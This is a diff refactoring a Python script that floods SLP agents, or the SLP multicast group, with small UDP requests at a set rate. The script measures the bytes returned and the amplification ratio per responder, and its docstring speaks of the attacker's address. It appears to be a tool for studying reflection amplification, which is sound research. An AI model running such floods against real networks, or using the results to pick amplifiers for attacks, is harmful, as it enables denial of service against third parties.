@@ -1,54 +1,38 @@
 #!/usr/bin/python3
-"""Floods SLP agents with small UDP requests from one source and counts what comes back.
-
-Usage: flood.py BIND PORT TARGET[,TARGET...] RATE WARMUP PHASE:SECONDS[,...] [KIND=ARG ...]
-BIND is the attacker's address; TARGET an agent's address, or 239.255.255.253 for multicast
-(REQUEST-MCAST set, sent out of BIND's interface). RATE requests a second go to each target:
-for each PHASE (srv, attr-type, attr-url, types, sa, da), WARMUP seconds whose replies are not
-counted (a source's first second), then SECONDS that are. Arguments: type=TYPE (srv,
-attr-type; default service:wbem), url=URL (attr-url). Prints one line per phase and responder:
-  PHASE RESPONDER sent=BYTES received=BYTES ratio=R largest=BYTES replies=N
-where sent counts the requests that reached that responder (all of them, for multicast); the
-uncounted first seconds the same way, the line starting with "first".
-With RATE 0 it sends one request of each phase's kind instead, waiting SECONDS for the replies.
-"""
+# flood.py: floods SLP agents with small UDP requests from one source and counts what comes back.
+#
+# Usage: flood.py BIND PORT TARGET[,TARGET...] RATE WARMUP PHASE:SECONDS[,...] [KIND=ARG ...]
+# BIND is the attacker's address; TARGET an agent's address, or 239.255.255.253 for multicast
+# (REQUEST-MCAST set, sent out of BIND's interface). RATE requests a second go to each target:
+# for each PHASE (srv, attr-type, attr-url, types, sa, da), WARMUP seconds whose replies are not
+# counted (a source's first second), then SECONDS that are. Arguments: type=TYPE (srv,
+# attr-type; default service:wbem), url=URL (attr-url). Prints one line per phase and responder:
+#   PHASE RESPONDER sent=BYTES received=BYTES ratio=R largest=BYTES replies=N
+# where sent counts the requests that reached that responder (all of them, for multicast); the
+# uncounted first seconds the same way, the line starting with "first".
+# With RATE 0 it sends one request of each phase's kind instead, waiting SECONDS for the replies.
 import random
 import select
 import socket
-import struct
 import sys
 import time
+
+from slpwire import message, str16
 
 GROUP = "239.255.255.253"
 
 
-def str16(text):
-    data = text.encode("utf-8")
-    return struct.pack("!H", len(data)) + data
-
-
-def message(function, body, multicast):
-    language = b"en"
-    length = 14 + len(language) + len(body)
-    flags = 0x2000 if multicast else 0
-    return (struct.pack("!BB", 2, function) + length.to_bytes(3, "big") + struct.pack("!H", flags)
-            + (0).to_bytes(3, "big") + struct.pack("!HH", random.randrange(1, 65536), len(language))
-            + language + body)
-
-
 def request(kind, args, multicast):
-    if kind == "srv":
-        return message(1, str16("") + str16(args.get("type", "service:wbem")) + str16("DEFAULT")
-                       + str16("") + str16(""), multicast)
-    if kind in ("sa", "da"):
-        agent = "service:service-agent" if kind == "sa" else "service:directory-agent"
-        return message(1, str16("") + str16(agent) + str16("DEFAULT") + str16("") + str16(""), multicast)
-    if kind in ("attr-type", "attr-url"):
-        target = args.get("type", "service:wbem") if kind == "attr-type" else args["url"]
-        return message(6, str16("") + str16(target) + str16("DEFAULT") + str16("") + str16(""), multicast)
-    if kind == "types":
-        return message(9, str16("") + struct.pack("!H", 0xFFFF) + str16("DEFAULT"), multicast)
-    raise SystemExit("flood.py: unknown kind " + kind)
+    if kind == "types":  # SrvTypeRqst for every naming authority
+        function, body = 9, str16("") + b"\xff\xff" + str16("DEFAULT")
+    else:  # a SrvRqst or an AttrRqst: previous responders, type or URL, scopes, predicate or tags, SPI
+        target = {"srv": args.get("type", "service:wbem"), "attr-type": args.get("type", "service:wbem"),
+                  "attr-url": args.get("url"), "sa": "service:service-agent", "da": "service:directory-agent"}
+        if target.get(kind) is None:
+            raise SystemExit("flood.py: unknown kind %s, or no url=" % kind)
+        function = 6 if kind.startswith("attr") else 1
+        body = str16("") + str16(target[kind]) + str16("DEFAULT") + str16("") + str16("")
+    return message(function, random.randrange(1, 65536), body, 0x2000 if multicast else 0)
 
 
 def main():
@@ -73,28 +57,25 @@ def main():
     for kind, seconds, counted in schedule:
         sent = {}  # requests' bytes per target
         got = {}   # responder: [bytes, largest, replies]
+
+        def send_round():  # one request to each target
+            for target in targets:
+                data = request(kind, args, multicast)
+                try:
+                    sock.sendto(data, (target, port))
+                    sent[target] = sent.get(target, 0) + len(data)
+                except BlockingIOError:
+                    pass
+
         start = time.monotonic()
         end = start + seconds
         count = 0
         if rate == 0:
-            for target in targets:
-                data = request(kind, args, multicast)
-                sock.sendto(data, (target, port))
-                sent[target] = len(data)
-        while True:
-            now = time.monotonic()
-            if now >= end:
-                break
+            send_round()
+        while (now := time.monotonic()) < end:
             if rate > 0:
-                due = int((now - start) * rate) + 1
-                while count < due:
-                    for target in targets:
-                        data = request(kind, args, multicast)
-                        try:
-                            sock.sendto(data, (target, port))
-                            sent[target] = sent.get(target, 0) + len(data)
-                        except BlockingIOError:
-                            pass
+                while count < int((now - start) * rate) + 1:
+                    send_round()
                     count += 1
                 wait = min(end, start + count / rate) - time.monotonic()
             else:
